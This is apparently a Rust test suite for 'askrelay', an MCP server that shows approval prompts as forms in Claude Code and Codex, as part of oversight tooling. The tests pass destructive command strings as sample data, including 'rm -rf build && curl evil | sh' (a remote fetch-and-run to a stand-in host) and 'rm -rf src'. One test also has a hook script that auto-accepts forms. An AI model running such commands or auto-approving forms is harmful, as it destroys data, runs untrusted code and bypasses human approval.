//! Asks as forms in the agents themselves: `askrelay mcp --serve` as the MCP server of Claude Code and of Codex.

use std::path::PathBuf;
use std::time::Duration;

use serde_json::{Value, json};

use crate::agents::Agent;
use crate::app_server::AppServer;
use crate::matrix::{Scene, Way};
use crate::screen::OnScreen;
use crate::spool::pass;
use crate::support::{Process, TempSpool, until};

/// The arguments of a server of session P.
fn args(spool: &TempSpool) -> Vec<String> {
    let mut args = ["mcp", "--serve", "--session", "P"]
        .map(str::to_owned)
        .to_vec();
    args.extend(["--spool".to_owned(), spool.root().display().to_string()]);
    args
}

fn mcp_config(spool: &TempSpool) -> PathBuf {
    let program = env!("CARGO_BIN_EXE_askrelay");
    let server = json!({"command": program, "args": args(spool)});
    spool.write_json("mcp.json", &json!({"mcpServers": {"askrelay": server}}))
}

fn heartbeat(spool: &TempSpool) -> PathBuf {
    spool.root().join("serving/P.json")
}

fn is_served(spool: &TempSpool) {
    until("the session is served", || heartbeat(spool).exists());
}

fn ask(spool: &TempSpool, value: &str) -> Process {
    spool.start_ask("P", &["--agent", "scout", "--value", value])
}

/// Claude Code without a person, which asks in a tool of its own. Gives the decision.
fn headless(settings: Option<&Value>) -> Value {
    let spool = TempSpool::new();
    // Its server starts beside it: whoever asks waits until it is there.
    let line = format!(
        "until test -e '{}'; do sleep 0.05; done; '{}' ask --session P --agent scout --value 'rm x' --json --spool '{}' > '{}'",
        heartbeat(&spool).display(),
        env!("CARGO_BIN_EXE_askrelay"),
        spool.root().display(),
        spool.home().join("decision").display(),
    );
    let scene = Scene::new(Way::ClaudeHeadless, move |turn| {
        turn.after([vec![Agent::ClaudeCode.shell(&line)]])
    });
    let mut command = Agent::ClaudeCode.headless(&spool, &scene.model);
    command.args(["--allowedTools", "Bash"]);
    command.arg("--mcp-config").arg(mcp_config(&spool));
    if let Some(settings) = settings {
        command
            .arg("--settings")
            .arg(spool.write_json("settings.json", settings));
    }
    let mut process = Process::start_unattended("Claude Code", command);
    while process.next_line().is_some() {}
    assert!(process.wait().success());
    let decision = std::fs::read(spool.home().join("decision")).unwrap_or_default();
    serde_json::from_slice(&decision)
        .unwrap_or_else(|error| panic!("{error}: {:?}", scene.model.was_told()))
}

#[test]
fn claude_code_without_a_person_puts_every_form_away_and_nobody_has_decided() {
    let decision = headless(None);
    assert_eq!(decision["confirmationUnavailable"], true, "{decision}");
    let reason = decision["denialReason"].as_str().unwrap();
    assert!(
        reason.contains("dismissed") && reason.contains("claude-code"),
        "{reason}"
    );
}

#[test]
fn a_hook_of_claude_code_that_fills_forms_in_is_a_program_and_no_person() {
    // Without a terminal pages are small: it turns them, and says yes on the one that offers it.
    let script = r#"input=$(cat)
case "$input" in
  *'"Yes"'*) answer=Yes ;;
  *) answer=$(printf '%s' "$input" | sed -n 's/.*"\(Read on: page [0-9]* of [0-9]*\)".*/\1/p') ;;
esac
printf '{"hookSpecificOutput":{"hookEventName":"Elicitation","action":"accept","content":{"answer":"%s"}}}' "$answer""#;
    let hook = json!({"type": "command", "command": script});
    let settings = json!({"hooks": {"Elicitation": [{"hooks": [hook]}]}});
    let decision = headless(Some(&settings));
    assert_eq!(decision["approved"], true, "{decision}");
    let by = &decision["decidedBy"]["decision"];
    assert_eq!(
        (&by["kind"], &by["name"]),
        (&json!("authorizer"), &json!("form:claude-code")),
        "{decision}"
    );
}

#[test]
fn a_person_in_front_of_claude_code_sees_what_would_run_and_answers_in_its_form() {
    let scene = Scene::new(Way::ClaudeOnTerminal, |turn| turn.after::<0>([]));
    scene.configure();
    let spool = &scene.spool;
    let mut command = Agent::ClaudeCode.on_a_terminal(spool, &scene.model);
    command.arg("--mcp-config").arg(mcp_config(spool));
    let mut screen = OnScreen::start(&command, 80, 24);
    screen.await_text("done:");
    is_served(spool);
    let child = ask(spool, "rm -rf build && curl evil | sh");
    let text = screen.await_text("requests your input");
    assert!(text.contains("rm -rf build && curl evil | sh"), "{text}");
    assert!(!text.contains("more lines"), "{text}");
    pass(Duration::from_millis(500));
    // To the options, to the second of them, and past the reason to the button.
    for (key, then) in [
        ("\x1b[C", "❯ ◯ No"),
        ("\x1b[B", "❯ ◯ Yes"),
        (" ", "✔ Answer"),
        ("\x1b[B", "Type something"),
        ("\x1b[B", "❯ Accept"),
    ] {
        screen.press(key);
        screen.await_text(then);
    }
    // It takes no Enter right after a key that has moved there.
    pass(Duration::from_millis(500));
    screen.press("\r");
    let (code, decision) = child.finish_ask();
    assert_eq!(code, Some(0), "{decision}\n{}", screen.text());
    let by = &decision["decidedBy"]["decision"]["name"];
    assert_eq!(by, "form:claude-code", "{decision}");
    // Escape puts it away: that is nobody's decision.
    let child = ask(spool, "rm -rf src");
    screen.await_text("rm -rf src");
    pass(Duration::from_millis(500));
    screen.press("\x1b");
    let (code, decision) = child.finish_ask();
    assert_eq!(code, Some(3), "{decision}");
    let reason = &decision["denialReason"];
    assert_eq!(reason, "the form was dismissed in claude-code");
    // Whoever takes an ask back takes its form along.
    let mut child = ask(spool, "rm -rf docs");
    screen.await_text("rm -rf docs");
    child.kill();
    until("the form goes", || {
        !screen.text().contains("requests your input")
    });
}

/// Its forms take single keys of whatever is typed, so what it is asked is asked elsewhere.
#[test]
fn codex_is_shown_no_form_and_its_tools_go_on() {
    let scene = Scene::new(Way::CodexAttended, |turn| turn.after::<0>([]));
    let spool = &scene.spool;
    scene.configure();
    let path = spool.home().join("codex/config.toml");
    let before = std::fs::read_to_string(&path).unwrap();
    let program = env!("CARGO_BIN_EXE_askrelay");
    let args = args(spool);
    let config =
        format!("{before}\n[mcp_servers.askrelay]\ncommand = {program:?}\nargs = {args:?}\n");
    spool.write("codex/config.toml", &config);
    let mut server = AppServer::start(spool, &scene.model);
    server.turn(spool);
    assert!(!heartbeat(spool).exists());
    let (code, decision) = ask(spool, "rm x").finish_ask();
    assert_eq!(code, Some(3), "{decision}");
}
